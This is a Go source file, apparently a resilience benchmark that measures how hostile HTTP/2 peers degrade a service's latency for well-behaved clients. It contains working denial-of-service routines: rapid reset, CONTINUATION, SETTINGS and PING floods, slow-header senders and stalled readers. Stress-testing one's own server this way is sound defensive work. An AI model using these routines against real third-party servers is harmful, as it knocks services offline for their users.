package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// goodRate is how many gets a second are measured, on goodConnections.
	goodRate        = 1000
	goodConnections = 32
	// pause is between two strokes of a hostile peer, and strokes how many frames one has.
	pause   = 10 * time.Millisecond
	strokes = 100
	// settle is how long the hostile peers are at work before anything is measured.
	settle = time.Second
)

// hostile is a way to be a nuisance: peers at a time, each of which does what attack does until it fails, and then
// connects again.
type hostile struct {
	name   string
	peers  int
	attack func(ctx context.Context, tcp net.Conn) error
}

// besides measures what hostile peers do to the good ones.
func besides(ctx context.Context, addr string, d time.Duration) error {
	get := request("GET", "/v1/values/overload/0042", "")
	measure := func() (time.Duration, int, error) {
		o, err := open(ctx, addr, get, goodConnections, goodRate, d)
		if err != nil {
			return 0, 0, err
		}
		return p99(o.good), o.failed + len(o.refused) + int(o.unsent.Load()), nil
	}
	fmt.Printf("\n%-22s %10s %12s %12s %8s\n", "hostile peers", "idle p99", "p99 besides", "ratio", "failed")
	for _, h := range []hostile{
		{"rapid reset", 4, rapidReset},
		{"CONTINUATION flood", 4, continuation},
		{"SETTINGS flood", 4, settings},
		{"PING flood", 4, pings},
		{"slow headers", 2000, slowHeaders},
		{"readers that stop", 200, stopReading},
	} {
		idle, _, err := measure()
		if err != nil {
			return err
		}
		end := h.begin(ctx, addr)
		time.Sleep(settle)
		busy, failed, err := measure()
		end()
		if err != nil {
			return err
		}
		fmt.Printf("%-22s %10v %12v %12.2f %8d\n", h.name, round(idle), round(busy), busy.Seconds()/idle.Seconds(), failed)
	}
	return nil
}

// begin lets the peers loose, and returns what ends them.
func (h hostile) begin(ctx context.Context, addr string) (end func()) {
	ctx, cancel := context.WithCancel(ctx)
	var all sync.WaitGroup
	for range h.peers {
		all.Go(func() {
			for ctx.Err() == nil {
				tcp, err := net.Dial("tcp", addr)
				if err != nil {
					time.Sleep(pause)
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = tcp.Close() })
				_ = h.attack(ctx, tcp)
				stop()
				_ = tcp.Close()
				time.Sleep(pause)
			}
		})
	}
	return func() { cancel(); all.Wait() }
}

// flood greets as an HTTP/2 client does, reads whatever comes, and calls stroke again and again.
func flood(tcp net.Conn, stroke func(f *http2.Framer, n uint32) error) error {
	out := bufio.NewWriter(tcp) // to be hostile must not cost the machine more than to suffer it
	f := http2.NewFramer(out, nil)
	if _, err := io.WriteString(out, http2.ClientPreface); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, tcp) }()
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for n := uint32(0); ; n++ {
		if err := stroke(f, n); err != nil {
			return err
		}
		if n%strokes == 0 {
			if err := out.Flush(); err != nil {
				return err
			}
			time.Sleep(pause)
		}
	}
}

func headers() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/v1/values?prefix=overload/"},
		{":authority", "a"}, {"x-api-key", apiKey}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return block.Bytes()
}

func rapidReset(_ context.Context, tcp net.Conn) error {
	block := headers()
	return flood(tcp, func(f *http2.Framer, n uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
	})
}

func continuation(_ context.Context, tcp net.Conn) error {
	block := headers()
	return flood(tcp, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
		}
		return f.WriteContinuation(1, false, bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 200))
	})
}

func settings(_ context.Context, tcp net.Conn) error {
	return flood(tcp, func(f *http2.Framer, n uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<16 + n})
	})
}

func pings(_ context.Context, tcp net.Conn) error {
	return flood(tcp, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })
}

// slowHeaders sends a byte of a request from time to time.
func slowHeaders(ctx context.Context, tcp net.Conn) error {
	for _, b := range request("GET", "/v1/values/overload/0042", "") {
		if _, err := tcp.Write([]byte{b}); err != nil {
			return err
		}
		select {
		case <-time.After(time.Second):
		case <-ctx.Done():
			return nil
		}
	}
	return nil
}

// stopReading asks for pages until the server can send no more, and reads none of it.
func stopReading(ctx context.Context, tcp net.Conn) error {
	if err := tcp.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
		return err
	}
	page := request("GET", "/v1/values?prefix=overload/&pageSize=1000", "")
	for range 30 {
		if _, err := tcp.Write(page); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}
